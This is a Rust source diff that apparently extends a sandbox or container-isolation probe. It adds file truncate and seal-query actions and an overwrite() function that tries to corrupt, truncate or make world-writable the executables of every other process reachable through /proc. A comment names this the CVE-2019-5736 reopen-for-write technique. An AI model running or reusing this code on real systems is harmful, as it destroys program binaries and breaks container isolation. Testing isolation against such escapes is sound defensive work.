@@ -120,6 +120,14 @@ fn act(words: &[&str]) -> io::Result<Value> {
             fs::File::open(format!("/proc/self/fd/{fd}"))?.read_to_string(&mut text)?;
             Ok(Value::from(text))
         }
+        ["truncate", path] => {
+            rustix::fs::open(path, OFlags::WRONLY | OFlags::TRUNC | OFlags::CLOEXEC, Mode::empty())?;
+            done
+        }
+        ["seals", path] => {
+            let file = rustix::fs::open(path, OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty())?;
+            Ok(json!(rustix::fs::fcntl_get_seals(&file)?.bits()))
+        }
         // Opens by path first, then again for writing through the descriptor: CVE-2019-5736's way.
         ["reopen-write", path] => {
             let handle = rustix::fs::open(path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty())?;
@@ -130,6 +138,25 @@ fn act(words: &[&str]) -> io::Result<Value> {
         }
         ref unknown => Err(io::Error::other(format!("{unknown:?} is nothing to try"))),
     }
+}
+
+/// Tries to change the program of every process in sight, by every way there is: the links of those that it could
+/// change, its own not counted.
+pub fn overwrite() -> Vec<String> {
+    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
+    let processes = fs::read_dir("/proc").into_iter().flatten().flatten().map(|e| e.path().join("exe"));
+    let changed = processes.filter(|exe| {
+        let Ok(handle) = rustix::fs::open(exe, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else {
+            return false;
+        };
+        let reopened = format!("/proc/self/fd/{}", handle.as_raw_fd());
+        fs::read_link(&reopened).is_ok_and(|link| link != own) && {
+            let mut opened = OpenOptions::new().write(true).open(&reopened).into_iter();
+            opened.any(|mut file| file.write_all(b"#!").is_ok() || file.set_len(0).is_ok())
+                || fs::set_permissions(&reopened, fs::Permissions::from_mode(0o666)).is_ok()
+        }
+    });
+    changed.map(|exe| exe.to_string_lossy().into_owned()).collect()
 }
 
 fn description(meta: &fs::Metadata) -> Value {
